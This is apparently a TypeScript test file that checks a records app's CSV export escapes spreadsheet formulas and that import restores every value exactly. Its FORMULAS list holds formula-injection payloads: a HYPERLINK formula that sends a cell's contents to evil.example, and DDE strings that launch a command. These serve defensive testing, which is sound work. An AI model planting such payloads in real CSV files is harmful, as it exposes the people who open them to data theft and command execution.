import Papa from 'papaparse';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Entity } from '@specrun/model';
import type { StoredRecord } from '../storage/RecordStore.ts';
import { escapeCsvCell, unescapeCsvCell } from './csvFormulas.ts';
import { exportRecordsCsv } from './exportRecords.ts';
import { importRecordsCsv } from './importRecords.ts';

const note: Entity = {
  name: 'Note',
  text: '',
  fields: [
    { name: 'title', type: { kind: 'text' }, required: true, unique: false, notes: '' },
    { name: 'body', type: { kind: 'longtext' }, required: false, unique: false, notes: '' },
    { name: 'count', type: { kind: 'integer' }, required: false, unique: false, notes: '' },
  ],
};

// What a reliability probe wrote into records: each runs as a formula when opened as it is.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

// Texts that must come back exactly: a number written as text, apostrophes before a formula.
const LEGITIMATE = ['-5', '+5', '-', '=x', "'=x", "''=x", "'tis", "'", "'-5", '@home', 'a=b'];

function recordOf(id: string, title: string, count?: number): StoredRecord {
  return {
    entity: 'Note',
    id,
    values: count === undefined ? { title, body: title } : { title, body: title, count },
    aside: {},
    version: 2,
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-02T00:00:00.000Z',
  };
}

const context = { entity: note, now: '2026-11-22T10:00:00.000Z', newId: () => 'new' };

/** The cells of a CSV as a spreadsheet reads them (quotes taken off). */
function cellsOf(csv: string): string[] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
}

describe('formula cells in CSV', () => {
  it('writes no cell that a spreadsheet would run as a formula', () => {
    const records = [...FORMULAS, ...LEGITIMATE].map((title, i) => recordOf(`n${i}`, title));
    const csv = exportRecordsCsv(note, records);
    const number = /^[-+]?\d+(\.\d+)?$/;
    for (const cell of cellsOf(csv))
      if (!number.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cellsOf(csv)).toContain(`'${FORMULAS[0]}`);
  });

  it('round-trips formulas, numbers as text and apostrophes exactly', () => {
    const records = [...FORMULAS, ...LEGITIMATE].map((title, i) =>
      recordOf(`n${String(i).padStart(2, '0')}`, title),
    );
    expect(importRecordsCsv(exportRecordsCsv(note, records), context)).toEqual({
      ok: true,
      records,
    });
  });

  it('leaves negative numbers as numbers, and an id that is a formula escaped', () => {
    const csv = exportRecordsCsv(note, [recordOf('=1+1', 'Taxi', -5)]);
    expect(csv.split('\n')[1]).toBe(
      "'=1+1,Taxi,Taxi,-5,2,2026-01-01T00:00:00.000Z,2026-01-02T00:00:00.000Z,",
    );
    expect(importRecordsCsv(csv, context)).toEqual({
      ok: true,
      records: [recordOf('=1+1', 'Taxi', -5)],
    });
  });

  it('reads a cell written by hand with one apostrophe before a formula as the text after it', () => {
    const result = importRecordsCsv("title,body\n'=SUM(A1),'tis\n", context);
    expect(result.ok && result.records[0]?.values).toEqual({ title: '=SUM(A1)', body: "'tis" });
  });

  it('reads back every text it writes', () => {
    const text = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1'),
    });
    fc.assert(fc.property(text, (cell) => unescapeCsvCell(escapeCsvCell(cell)) === cell));
  });
});
